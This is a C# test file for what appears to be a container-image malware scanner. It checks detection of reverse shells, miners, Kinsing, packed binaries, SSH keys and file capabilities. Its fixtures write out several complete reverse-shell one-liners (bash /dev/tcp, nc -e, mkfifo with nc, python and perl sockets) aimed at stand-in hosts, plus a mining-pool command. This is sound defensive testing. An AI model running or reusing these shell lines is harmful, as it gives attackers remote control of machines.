using System.Diagnostics;
using System.Security.Cryptography;
using System.Text;
using Bulwark.Images.Files;
using Bulwark.Images.Findings;
using Bulwark.Images.Malware;
using Bulwark.Images.Scanning;
using Bulwark.Images.Sources;
using Bulwark.Images.Tests.Harness;
using CsCheck;

namespace Bulwark.Images.Tests.Findings;

public sealed class SuspicionTests
{
    [Theory]
    [InlineData("bash -i >& /dev/tcp/203.0.113.1/443 0>&1", "malware/reverse-shell")]
    [InlineData("sh -i 5<> /dev/tcp/evil.example/$PORT", "malware/reverse-shell")]
    [InlineData("nc -e /bin/sh 203.0.113.1 443", "malware/reverse-shell")]
    [InlineData("ncat 203.0.113.1 443 --exec '/bin/bash'", "malware/reverse-shell")]
    [InlineData("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 443 >/tmp/f", "malware/reverse-shell")]
    [InlineData("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "malware/reverse-shell")]
    [InlineData("perl -e 'socket(S,PF_INET,SOCK_STREAM,1);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'", "malware/reverse-shell")]
    [InlineData("./worker -o stratum+tcp://pool.example.com:3333 -u x", "malware/miner")]
    [InlineData("echo waiting; timeout 1 bash -c '</dev/tcp/db/5432'", null)]
    [InlineData("nc -z db 5432 && exec /bin/sh", null)]
    [InlineData("# see stratum+tcp", null)]
    [InlineData("mkfifo /tmp/log; cat /tmp/log &", null)]
    public async Task A_script_that_serves_an_attacker_is_told(string line, string? expected)
    {
        var finding = Of(await ScanAsync(new TestImage().Layer(new Tar().File("opt/run", $"#!/bin/sh\nset -e\n{line}\n", "755"))), FindingKind.Malware).SingleOrDefault();

        Assert.Equal(expected, finding?.Id);
        if (finding is not null)
            Assert.Contains("(line 3)", finding.Title, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_is_only_written_about_and_not_run_is_not_malware() =>
        Assert.Empty(Of(await ScanAsync(new TestImage().Layer(new Tar().File("usr/share/doc/shells.txt", "bash -i >& /dev/tcp/203.0.113.1/443 0>&1\n"))), FindingKind.Malware));

    [Fact]
    public async Task Malware_that_a_later_layer_deletes_is_told_too()
    {
        var result = await ScanAsync(new TestImage().Layer(new Tar().File("etc/cron.d/x", "* * * * * root nc -e /bin/sh 203.0.113.1 4\n")).Layer(new Tar().Whiteout("etc/cron.d/x")));

        Assert.EndsWith("a later layer deletes the file", Assert.Single(Of(result, FindingKind.Malware)).Title, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ssh-ed25519 AAAA anna\n# ssh-rsa no\nno-pty ecdsa-sha2-nistp256 AAAA berta\n", "2 keys may")]
    [InlineData("# nobody\n\n", null)]
    public async Task Keys_that_let_somebody_log_in_are_counted(string keys, string? expected)
    {
        var finding = (await ScanAsync(new TestImage().Layer(new Tar().File("root/.ssh/authorized_keys", keys)))).Findings.SingleOrDefault(finding => finding.Id == "file/authorized-keys");

        Assert.Equal(expected is null, finding is null);
        Assert.StartsWith(expected ?? "", finding?.Title ?? "", StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_miner_is_known_by_its_words_and_one_of_them_is_not_enough()
    {
        using var directory = new TemporaryDirectory();
        var miner = await ProgramAsync(directory, "stratum+tcp:// mining.submit donate-level");
        var monitor = await ProgramAsync(directory, "stratum+tcp://");

        var result = await ScanAsync(new TestImage().Layer(new Tar().File("opt/a", miner, "755").File("opt/b", monitor, "755")));
        Assert.Equal(["opt/a"], Of(result, FindingKind.Malware).Select(finding => finding.Path));
        Assert.DoesNotContain(result.Findings, finding => finding.Id == "file/packed-program");
    }

    [Fact]
    public async Task Kinsing_is_known_by_what_it_and_its_miner_are_called_however_large_the_program_is()
    {
        using var directory = new TemporaryDirectory();
        var one = await ProgramAsync(directory, "kinsing");
        byte[] both = [.. one, .. new byte[5 << 20], .. "kdevtmpfsi"u8];

        var result = await ScanAsync(new TestImage().Layer(new Tar().File("opt/a", both, "755").File("opt/b", one, "755")));
        Assert.Equal([("malware/kinsing", "opt/a")], Of(result, FindingKind.Malware).Select(finding => (finding.Id, finding.Path)));
    }

    [Fact]
    public async Task A_program_whose_code_is_packed_is_told()
    {
        using var directory = new TemporaryDirectory();
        var program = await ProgramAsync(directory, "");
        var upx = program.ToArray();
        "UPX!"u8.CopyTo(upx.AsSpan(400));
        // An ELF with one part that is run, and that is random.
        var random = new byte[64 << 10];
        program.AsSpan(0, 64).CopyTo(random);
        RandomNumberGenerator.Fill(random.AsSpan(120));
        BitConverter.TryWriteBytes(random.AsSpan(32), 64L);
        BitConverter.TryWriteBytes(random.AsSpan(54), (short)56);
        BitConverter.TryWriteBytes(random.AsSpan(56), (short)1);
        BitConverter.TryWriteBytes(random.AsSpan(64), 1);
        BitConverter.TryWriteBytes(random.AsSpan(68), 5);
        BitConverter.TryWriteBytes(random.AsSpan(72), 0L);
        BitConverter.TryWriteBytes(random.AsSpan(96), (long)random.Length);

        var result = await ScanAsync(new TestImage().Layer(new Tar().File("opt/a", upx, "755").File("opt/b", random, "755").File("opt/c", program, "755")));
        Assert.Equal(["opt/a", "opt/b"], result.Findings.Where(finding => finding.Id == "file/packed-program").Select(finding => finding.Path).Order());
    }

    [Fact]
    public async Task No_real_program_of_this_machine_is_suspicious()
    {
        // Some hundred programs and scripts that the distribution brought.
        var tar = new Tar();
        foreach (var file in Directory.GetFiles("/usr/bin").Order(StringComparer.Ordinal).Where(file => new FileInfo(file) is { LinkTarget: null, Length: < 4 << 20 }).Take(300))
            tar.File(file[1..], await File.ReadAllBytesAsync(file), "755");
        var result = await ScanAsync(new TestImage().Layer(tar));

        Assert.Empty(result.Findings.Where(finding => finding.Kind == FindingKind.Malware || finding.Id == "file/packed-program").Select(finding => $"{finding.Path}: {finding.Title}"));
    }

    [Theory]
    // As setcap writes them: cap_net_raw+ep, cap_sys_admin,cap_bpf+ep, and one of a user namespace (version 3).
    [InlineData("0100000200200000000000000000000000000000", "net_raw", false)]
    [InlineData("0100000200002000000000008000000000000000", "sys_admin bpf", true)]
    [InlineData("010000030004000000000000000000000000000000000100", "net_bind_service", false)]
    [InlineData("0100000200200000", "unknown ones", true)]
    [InlineData("0100000900200000000000000000000000000000", "unknown ones", true)]
    [InlineData("", "unknown ones", true)]
    public void Capabilities_of_a_file_have_their_names(string attribute, string names, bool mighty)
    {
        var capabilities = FileCapabilities.Parse(Convert.FromHexString(attribute));
        Assert.Equal((names, mighty), (string.Join(' ', FileCapabilities.NamesOf(capabilities)), FileCapabilities.AreMighty(capabilities)));
    }

    [Fact]
    public void Capabilities_come_out_of_a_tars_extended_headers()
    {
        var value = Convert.FromHexString("0100000200200000000000000000000000000000");
        byte[] record = [.. Encoding.ASCII.GetBytes("SCHILY.xattr.security.capability="), .. value, (byte)'\n'];
        var length = record.Length + 3;
        var layer = Reading.Layer(WithExtendedHeader([.. Encoding.ASCII.GetBytes($"{length} "), .. record], "usr/bin/ping"));

        Assert.Equal(["net_raw"], FileCapabilities.NamesOf(layer.Files["usr/bin/ping"].Capabilities));
    }

    [Fact]
    public void No_bytes_make_a_look_at_a_program_fail_but_as_a_damaged_file() => Gen.Select(Gen.Byte.Array[0, 300], Gen.Bool, Gen.Bool).Sample((bytes, is64, isBig) =>
    {
        byte[] program = [0x7f, (byte)'E', (byte)'L', (byte)'F', (byte)(is64 ? 2 : 1), (byte)(isBig ? 2 : 1), .. bytes, .. new byte[5000]];
        var layer = Reading.Layer(new Tar().File("a", program, "755").ToArray(), null, new SuspiciousPrograms());
        return layer.Doubts.TrueForAll(doubt => doubt.Kind == CannotTellKind.File && !doubt.Reason.Contains("Exception", StringComparison.Ordinal));
    }, iter: 500);

    private static async Task<ScanResult> ScanAsync(TestImage image)
    {
        using var directory = new TemporaryDirectory();
        var path = directory.Write("image.tar", image.DockerArchive());
        return await ImageScanner.ScanAsync(new ArchiveSource(path, new(path)), null, new(), TimeProvider.System, CancellationToken.None);
    }

    private static List<Finding> Of(ScanResult result, FindingKind kind) => [.. result.Findings.Where(finding => finding.Kind == kind)];

    private static async Task<byte[]> ProgramAsync(TemporaryDirectory directory, string words)
    {
        var source = directory.Write("p.c", $"#include <stdio.h>\nint main(void) {{ return puts(\"{words}\"); }}\n");
        var program = Path.Combine(directory.Path, "p");
        using var compiler = Process.Start("gcc", ["-o", program, source]);
        await compiler.WaitForExitAsync();
        return await File.ReadAllBytesAsync(program);
    }

    // The framework's writer takes no bytes that are no text.
    private static byte[] WithExtendedHeader(byte[] records, string path)
    {
        var plain = new Tar().File(path, "x", "755").ToArray();
        var blocks = (records.Length + 511) / 512 * 512;
        var header = new byte[512 + blocks];
        Encoding.ASCII.GetBytes("x").CopyTo(header, 0);
        Encoding.ASCII.GetBytes(Convert.ToString(records.Length, 8).PadLeft(11, '0')).CopyTo(header, 124);
        header[156] = (byte)'x';
        header.AsSpan(148, 8).Fill((byte)' ');
        Encoding.ASCII.GetBytes($"{Convert.ToString(header.AsSpan(0, 512).ToArray().Sum(value => value), 8).PadLeft(6, '0')}\0 ").CopyTo(header, 148);
        records.CopyTo(header, 512);
        return [.. header, .. plain];
    }
}
